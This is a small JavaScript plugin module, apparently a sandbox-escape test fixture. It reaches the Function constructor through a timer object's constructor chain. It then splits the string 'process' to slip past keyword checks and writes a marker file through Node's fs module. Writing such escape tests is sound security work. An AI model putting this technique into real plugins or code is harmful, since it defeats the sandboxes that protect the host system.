// Makes a function of a text by the constructor of a timer's constructor.
exports.createPlugin = () => new Promise((done) => {
  const t = setTimeout(() => {
    const F = t['construct' + 'or'].constructor;
    F(['pro', "cess.getBuiltinModule('fs').writeFileSync('@MARK@', '')"].join(''))();
    done();
  }, 1);
});
